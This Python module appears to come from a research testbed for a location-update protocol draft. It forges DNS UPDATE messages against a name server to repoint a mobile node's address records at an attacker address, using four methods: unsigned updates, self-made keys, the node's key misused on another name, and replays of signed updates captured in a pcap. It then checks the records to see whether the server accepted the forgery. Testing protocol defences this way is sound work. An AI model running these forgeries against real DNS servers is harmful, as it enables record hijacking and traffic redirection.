"""Forged location updates (§4, §8 of the draft): what an attacker on an access network sends.

    python -m testbed.attacks.update_forgery --server 203.0.113.10 --zone mobile.test \
        --name mn.mobile.test --form unsigned --address 192.0.2.254

Forms: ``unsigned``; ``own-key`` (signed with a key the attacker made, naming the MN as signer);
``other-name`` (signed with the MN's own key, ``--key``, but changing ``--target``, another
name); ``replay`` (the exact bytes of a signed UPDATE of the MN's that the attacker captured,
``--capture``, resent). Each prints one JSON line: the server's answer and the target's A/AAAA
records queried before and after, so the caller judges by the zone's content, not only by the
rcode. Exit 0 whatever the server said; 2 for bad input.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import dns.exception
import dns.message
import dns.name
import dns.query
import dns.rcode
import dns.rdatatype

from testbed.decode.dns import OPCODE_UPDATE, TYPE_A, TYPE_AAAA, decode_dns
from testbed.decode.packet import decode_frame
from testbed.decode.pcap import PcapReader
from testbed.errors import ConfigError, TestbedError
from testbed.mobility.location import keys
from testbed.mobility.location.updater import AddressSet, LocationUpdater, RetryPolicy

FORMS = ("unsigned", "own-key", "other-name", "replay")


def records(server: str, name: str, timeout: float = 2.0) -> dict[str, list[str]]:
    """The name's A and AAAA records as the server answers them now (sorted)."""
    out: dict[str, list[str]] = {}
    for rdtype in ("A", "AAAA"):
        q = dns.message.make_query(name, rdtype)
        r = dns.query.udp(q, server, timeout=timeout)
        out[rdtype.lower()] = sorted(rd.to_text() for rrset in r.answer for rd in rrset
                                     if rrset.rdtype == dns.rdatatype.from_text(rdtype))
    return out


def captured_updates(capture: Path, name: str, own: Sequence[str] = ()) -> list[dict[str, Any]]:
    """Signed UPDATEs for ``name`` in a capture, oldest first, except those sent from ``own``
    addresses (the attacker's forgeries): raw DNS bytes, when, what they set."""
    want = name.lower().rstrip(".") + "."
    found = []
    with PcapReader(capture) as reader:
        for n, (ts, lt, frame, _iface) in enumerate(reader, 1):
            pk = decode_frame(lt, frame)
            msg = pk.dns
            if msg is None or msg.qr or msg.opcode != OPCODE_UPDATE or msg.sig0 is None or pk.ip is None:
                continue
            if pk.ip.src in own:
                continue
            if want not in {r.name.lower() for r in msg.updates}:
                continue
            start = pk.ip.payload_offset + 8  # UDP header
            raw = frame[start:pk.ip.payload_end]
            if decode_dns(raw).id != msg.id:
                continue  # not UDP: the lab signs over UDP, TCP only on truncation
            sets = sorted(r.value for r in msg.updates if r.type in (TYPE_A, TYPE_AAAA) and r.value)
            found.append({"raw": raw, "time": ts, "frame": n, "id": msg.id, "sets": sets,
                          "inception": msg.sig0.inception, "expiration": msg.sig0.expiration})
    return found


def _updater(a: argparse.Namespace, name: str, key: keys.Sig0Key | None) -> LocationUpdater:
    # one attempt: a forgery that is not answered is reported as such, not retried
    return LocationUpdater(a.server, a.zone, name, key=key or keys.generate(name), ttl=a.ttl,
                           retry=RetryPolicy(attempts=1, timeout=a.timeout))


async def forge(a: argparse.Namespace) -> dict[str, Any]:
    target = a.target or a.name
    out: dict[str, Any] = {"form": a.form, "target": target, "sent": time.time()}
    if a.form == "replay":
        ups = captured_updates(Path(a.capture), a.name, a.address)
        now = records(a.server, target)
        current = set(now["a"] + now["aaaa"])
        # the newest captured update that would change the zone now: acceptance rolls it back
        stale = [u for u in ups if set(u["sets"]) - current]
        if not stale:
            raise ConfigError(a.capture, "capture", f"no signed UPDATE for {a.name} that differs from "
                              "the zone now", "listen on the MN's access network before it moves")
        pick = stale[-1]
        wire: bytes = pick.pop("raw")
        out.update(replayed=pick, forged=pick["sets"], age=round(time.time() - pick["time"], 3))
        up = _updater(a, a.name, None)
    else:
        forged = AddressSet.of([x for x in a.address if ":" not in x], [x for x in a.address if ":" in x])
        key = keys.load_key(a.key) if a.form == "other-name" else keys.generate(a.name)
        up = _updater(a, target, key)
        msg = up.message(forged)
        wire = msg.to_wire() if a.form == "unsigned" else up.sign(msg, time.time())
        out["forged"] = sorted(a.address)
    out["before"] = records(a.server, target)
    out["id"] = int.from_bytes(wire[:2], "big")
    out["sent"] = time.time()
    try:
        response, transport = await up.exchange(wire, a.timeout)
        out.update(rcode=dns.rcode.to_text(response.rcode()), transport=transport)
    except (TimeoutError, OSError, EOFError, dns.exception.DNSException) as e:
        out.update(rcode=None, error=f"{type(e).__name__}: {e}")
    out["after"] = records(a.server, target)
    return out


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m testbed.attacks.update_forgery", description=__doc__)
    p.add_argument("--server", required=True)
    p.add_argument("--zone", required=True)
    p.add_argument("--name", required=True, help="the MN's name")
    p.add_argument("--form", required=True, choices=FORMS)
    p.add_argument("--address", action="append", default=[],
                   help="the attacker's address: what a forgery points at, what a replay skips")
    p.add_argument("--target", help="other-name: the name the MN's key tries to change")
    p.add_argument("--key", help="other-name: the MN's SIG(0) key (K*.private)")
    p.add_argument("--capture", help="replay: a capture holding the MN's signed UPDATEs")
    p.add_argument("--ttl", type=int, default=5)
    p.add_argument("--timeout", type=float, default=2.0)
    a = p.parse_args(argv)
    try:
        if a.form == "other-name" and not (a.key and a.target):
            raise ConfigError("command line", "--key/--target", "other-name needs the MN's key and a target")
        if a.form == "replay" and not a.capture:
            raise ConfigError("command line", "--capture", "replay needs a capture of the MN's updates")
        if a.form != "replay" and not a.address:
            raise ConfigError("command line", "--address", f"{a.form} needs an address to point at")
        result = asyncio.run(forge(a))
    except TestbedError as e:
        print(json.dumps({"form": a.form, "error": str(e)}))
        return 2
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
